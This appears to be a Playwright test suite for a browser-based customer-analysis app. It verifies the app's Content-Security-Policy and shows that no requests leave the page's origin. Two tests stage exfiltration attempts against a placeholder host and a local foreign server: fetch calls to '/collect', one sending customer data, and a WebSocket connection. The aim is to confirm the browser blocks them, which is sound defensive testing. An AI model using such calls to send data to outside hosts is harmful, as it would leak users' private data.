import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import type { Worker } from '@playwright/test';
import { expect, test } from './fixtures';
import { loadDemo } from './journeys';

const views = [
	'',
	'data/',
	'value/',
	'segments/',
	'personas/',
	'profit/',
	'movement/',
	'loyalty/',
	'reviews/',
	'clv/'
];
const labels = [
	'Data',
	'Value',
	'Segments',
	'Personas',
	'Profit',
	'Movement',
	'Loyalty',
	'Reviews',
	'Lifetime value'
];

test('a full visit from a sub-path stays on the page’s origin', async ({ page, watched }) => {
	for (const view of views) {
		await page.goto(view);
		await expect(page.getByRole('main')).toBeVisible();
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	}
	// Navigate through the header as a user would, client-side.
	await page.goto('');
	for (const label of labels) {
		await page
			.getByRole('navigation', { name: 'Analysis views' })
			.getByRole('link', { name: label, exact: true })
			.click();
		await expect(page.getByRole('link', { name: label, exact: true })).toHaveAttribute(
			'aria-current',
			'page'
		);
	}
	expect(watched.requests.length).toBeGreaterThan(5);
	expect(watched.requests.every((url) => url.includes('/tools/sieve/'))).toBe(true);
});

test('a workshop visit — demo business, every view, exports — makes no request to another origin', async ({
	page,
	watched
}) => {
	await page.goto('');
	await page.getByRole('link', { name: 'Try the demo business' }).first().click();
	await expect(page.getByTestId('import-summary')).toBeVisible({ timeout: 60_000 });
	await page.waitForURL(/[?&]dataset=/);
	await expect(page.locator('[data-metric="import.customers"]')).toHaveAttribute(
		'data-value',
		/^\d{4}$/
	);
	for (const label of [...labels.slice(1), 'Data']) {
		await page
			.getByRole('navigation', { name: 'Analysis views' })
			.getByRole('link', { name: label, exact: true })
			.click();
		await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
		await page.waitForTimeout(1500);
	}
	await page
		.getByRole('navigation', { name: 'Analysis views' })
		.getByRole('link', { name: 'Value', exact: true })
		.click();
	const download = page.waitForEvent('download');
	await page.getByRole('button', { name: 'Export CSV' }).click();
	await download;
	expect(watched.requests.length).toBeGreaterThan(10);
});

test('the page forbids other origins with a Content-Security-Policy', async ({ page, watched }) => {
	await page.goto('');
	const csp = await page
		.locator('meta[http-equiv="content-security-policy"]')
		.getAttribute('content');
	expect(csp).toContain("default-src 'self'");
	expect(csp).toContain("connect-src 'self'");
	expect(csp).toContain("font-src 'self'");
	// A script that tries to reach out is refused by the browser.
	const outcome = await page.evaluate(async () => {
		try {
			await fetch('https://example.com/collect', { mode: 'no-cors' });
			return 'sent';
		} catch {
			return 'blocked';
		}
	});
	expect(outcome).toBe('blocked');
	// The watch saw the attempt; it is this test's intended violation, so take it off the list.
	await expect.poll(() => watched.consoleErrors.some((e) => e.includes('example.com'))).toBe(true);
	watched.consoleErrors.length = 0;
	watched.foreignRequests.length = 0;
});

/**
 * A server on another port of the same host (so another origin) that records every request and
 * completes WebSocket handshakes: without the policy in the worker, both attempts below reach it.
 */
async function startForeignServer(): Promise<{
	origin: string;
	hits: string[];
	close: () => void;
}> {
	const hits: string[] = [];
	const server = createServer((request, response) => {
		hits.push(`${request.method} ${request.url}`);
		response.writeHead(200, { 'access-control-allow-origin': '*' });
		response.end('received');
	});
	server.on('upgrade', (request, socket) => {
		hits.push(`websocket ${request.url}`);
		const accept = createHash('sha1')
			.update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
			.digest('base64');
		socket.write(
			`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`
		);
	});
	await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
	const { port } = server.address() as AddressInfo;
	return {
		origin: `127.0.0.1:${port}`,
		hits,
		close: () => {
			server.closeAllConnections();
			server.close();
		}
	};
}

test('the analysis worker, which holds the data, cannot fetch from or open a WebSocket to another origin', async ({
	page,
	watched,
	baseURL
}) => {
	const foreign = await startForeignServer();
	try {
		// The server answers when asked directly: a refusal below is the browser's, not the network's.
		expect((await fetch(`http://${foreign.origin}/probe`)).ok).toBe(true);
		foreign.hits.length = 0;

		const workers: Worker[] = [];
		page.on('worker', (worker) => workers.push(worker));
		await loadDemo(page);
		expect(workers.length).toBeGreaterThan(0);
		const worker = workers[workers.length - 1];

		const outcome = await worker.evaluate(
			async ({ foreignOrigin, ownUrl }) => {
				const tryFetch = async (url: string) => {
					try {
						await fetch(url, { mode: 'no-cors', cache: 'no-store' });
						return 'sent';
					} catch {
						return 'blocked';
					}
				};
				const trySocket = (url: string) =>
					new Promise<string>((resolve) => {
						setTimeout(() => resolve('no answer'), 5000);
						try {
							const socket = new WebSocket(url);
							socket.onopen = () => {
								socket.close();
								resolve('open');
							};
							socket.onerror = () => resolve('blocked');
						} catch {
							resolve('blocked');
						}
					});
				return {
					sameOrigin: await tryFetch(ownUrl),
					fetch: await tryFetch(`http://${foreignOrigin}/collect?data=customers`),
					webSocket: await trySocket(`ws://${foreignOrigin}/stream`)
				};
			},
			{ foreignOrigin: foreign.origin, ownUrl: baseURL ?? '' }
		);
		// The worker can still reach its own origin: what is refused is only the other origin.
		expect(outcome).toEqual({ sameOrigin: 'sent', fetch: 'blocked', webSocket: 'blocked' });
		expect(foreign.hits, 'requests that reached the other origin').toEqual([]);
	} finally {
		foreign.close();
	}
	// The browser's refusals are this test's intended violations: take them off the watch's lists.
	const intended = (text: string) => text.includes(foreign.origin);
	watched.consoleErrors.splice(0, Infinity, ...watched.consoleErrors.filter((e) => !intended(e)));
	watched.foreignRequests.splice(
		0,
		Infinity,
		...watched.foreignRequests.filter((url) => !intended(url))
	);
});

/** The Content-Security-Policy line of `static/_headers`, the file shipped for header-capable hosts. */
function shippedHeaderPolicy(): string {
	const text = readFileSync(join(process.cwd(), 'static', '_headers'), 'utf8');
	const line = /^\s+Content-Security-Policy:\s*(.+)$/m.exec(text);
	if (!line) throw new Error('static/_headers has no Content-Security-Policy line');
	return line[1].trim();
}

/** `directive → sources` of a policy. */
function directives(policy: string): Map<string, string> {
	return new Map(
		policy
			.split(';')
			.map((part) => part.trim().split(/\s+/))
			.filter((words) => words[0] !== '')
			.map(([name, ...sources]) => [name, sources.join(' ')])
	);
}

test('the shipped _headers policy matches the page’s, forbids framing, and the app runs under it', async ({
	page
}) => {
	const policy = shippedHeaderPolicy();
	const header = directives(policy);
	expect(header.get('frame-ancestors')).toBe("'none'");
	expect(header.get('connect-src')).toBe("'self'");
	// Serve every response with the header, as Netlify or Cloudflare Pages would.
	await page.route('**/*', async (route) => {
		const response = await route.fetch();
		await route.fulfill({
			response,
			headers: { ...response.headers(), 'content-security-policy': policy }
		});
	});
	await loadDemo(page);
	await expect(page.locator('[data-metric="import.customers"]')).toHaveAttribute(
		'data-value',
		/^\d{4}$/
	);
	// Every directive of the <meta> policy is in the header, with the same sources (the header defers
	// inline scripts to the meta policy's hashes).
	const meta = directives(
		(await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content')) ?? ''
	);
	for (const [name, sources] of meta) {
		if (name === 'script-src') expect(header.get(name)).toBe("'self' 'unsafe-inline'");
		else expect(header.get(name), name).toBe(sources);
	}
	// Console errors (a refused bootstrap script, a refused worker) fail the test in the fixture.
});
